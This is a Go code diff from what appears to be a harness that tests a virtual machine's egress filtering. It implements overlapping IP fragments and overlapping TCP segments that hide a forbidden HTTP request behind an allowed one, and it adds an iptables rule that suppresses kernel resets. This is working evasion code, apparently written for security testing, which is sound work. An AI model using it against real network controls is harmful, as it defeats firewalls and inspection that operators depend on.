@@ -209,44 +209,56 @@ func overlappingFragments(a *attempt, c *card) {
 		over := h.packet(bad[8:24])
 		h.fragment = 2
 		c.out(first, again, over, h.packet(bad[16:]))
+		// Written over with the same bytes, it is a datagram that a lenient stack takes.
+		h.id, h.fragment = 0x4445, 1<<13
+		one := h.packet(bad[:24])
+		h.fragment = 2
+		c.out(one, h.packet(bad[16:]))
 	}
 }
 
-// overlappingSegments is a client of its own that sends an allowed request and
-// then, in the same place of the stream, a forbidden one.
+// overlappingSegments is a client of its own that sends an allowed request and,
+// in the same place of the stream, a forbidden one: before it and after it,
+// because stacks differ in which of two they keep.
 func overlappingSegments(a *attempt, c *card) {
 	addrs := a.resolve(plan.Allowed)
 	if len(addrs) == 0 {
 		return
 	}
-	dst, from := addrs[0].Unmap().String(), uint16(45000)
-	// The kernel knows nothing of this connection and would reset it.
-	drop := []string{"OUTPUT", "-p", "tcp", "--sport", "45000", "--tcp-flags", "RST", "RST", "-j", "DROP"}
+	// The kernel knows nothing of these connections and would reset them.
+	drop := []string{"OUTPUT", "-p", "tcp", "--sport", "45000:45001", "--tcp-flags", "RST", "RST", "-j", "DROP"}
 	if out, err := exec.Command("iptables", append([]string{"-I"}, drop...)...).CombinedOutput(); err != nil {
 		say("iptables: %v %s", err, out)
 	}
 	defer exec.Command("iptables", append([]string{"-D"}, drop...)...).Run() //nolint:errcheck // the VM goes anyway
-	h := header4{src: plan.Guest, dst: dst, proto: protoTCP}
-	c.once(h.packet(h.tcp(from, 80, 999, 0, flagSYN, nil, "")))
-	seq, ok := c.synAck(from)
-	if !ok {
-		say("tcp: no SYN-ACK")
-		return
+	head := "GET /" + a.token + " HTTP/1.1\r\nHost: "
+	good := head + plan.Allowed + "\r\n\r\n"
+	bad := head + plan.EvilCDN + "\r\n\r\n"
+	n := max(len(good), len(bad))
+	good += strings.Repeat("\r\n", (n-len(good)+1)/2) // empty lines, so that both are as long
+	bad += strings.Repeat("\r\n", (n-len(bad)+1)/2)
+	n = min(len(good), len(bad))
+	h := header4{src: plan.Guest, dst: addrs[0].Unmap().String(), proto: protoTCP}
+	for i, tails := range [][]string{{good, bad}, {bad, good}} {
+		from := uint16(45000 + i)
+		c.once(h.packet(h.tcp(from, 80, 999, 0, flagSYN, nil, "")))
+		seq, ok := c.synAck(from)
+		if !ok {
+			say("tcp: no SYN-ACK")
+			return
+		}
+		segment := func(port uint16, at int, data string) {
+			c.once(h.packet(h.tcp(port, 80, 1000+uint32(at), seq+1, flagACK|flagPSH, nil, data)))
+		}
+		for _, tail := range tails { // out of order: the first is kept, the second overlaps it
+			segment(from, len(head), tail[len(head):n])
+		}
+		segment(from, 0, head)                                // completes either
+		segment(from, len(head)-10, tails[1][len(head)-10:n]) // and once more, over the edge
+		say("overlapping segments sent to %s", h.dst)
+		time.Sleep(answerTime / 3) // its answer is not read; it is let live for a moment
+		c.once(h.packet(h.tcp(from, 80, 1000+uint32(n), seq+1, flagRST|flagACK, nil, "")))
 	}
-	good := "GET /" + a.token + " HTTP/1.1\r\nHost: " + plan.Allowed + "\r\n\r\n"
-	bad := "GET /" + a.token + " HTTP/1.1\r\nHost: " + plan.EvilCDN
-	bad += strings.Repeat(" ", max(0, len(good)-len(bad)-4)) + "\r\n\r\n"
-	segment := func(at int, data string) []byte {
-		return h.packet(h.tcp(from, 80, 1000+uint32(at), seq+1, flagACK|flagPSH, nil, data))
-	}
-	half := 20 + len(a.token)
-	c.once(segment(half, good[half:]))      // out of order: kept
-	c.once(segment(half, bad[half:]))       // the same place again, other bytes
-	c.once(segment(0, bad[:half]))          // completes both
-	c.once(segment(half-10, bad[half-10:])) // and once more, over the edge
-	say("overlapping segments sent to %s", dst)
-	h.proto = protoTCP
-	c.once(h.packet(h.tcp(from, 80, 1000+uint32(len(bad)), seq+1, flagRST|flagACK, nil, "")))
 }
 
 func (c *card) once(packet []byte) {
